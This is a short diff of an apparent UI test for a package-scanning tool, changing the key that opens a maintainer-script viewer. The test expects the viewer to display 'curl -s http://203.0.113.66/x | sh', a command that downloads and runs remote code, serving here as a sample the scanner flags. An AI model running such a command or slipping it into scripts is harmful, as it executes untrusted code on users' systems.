@@ -444,7 +444,7 @@ async def test_local_scan_cross_links_and_shows_a_maintainer_script(make_app, tm
         assert chain["file.name"] in names
         await filter_to(pilot, app, chain["file.name"])
         assert "⌂" in screen_text(app)
-        await pilot.press("enter")
+        await pilot.press("m")
         await wait_for(pilot, lambda: isinstance(app.screen, TextScreen), what="the script viewer")
         text = screen_text(app)
         assert "curl -s http://203.0.113.66/x | sh" in text
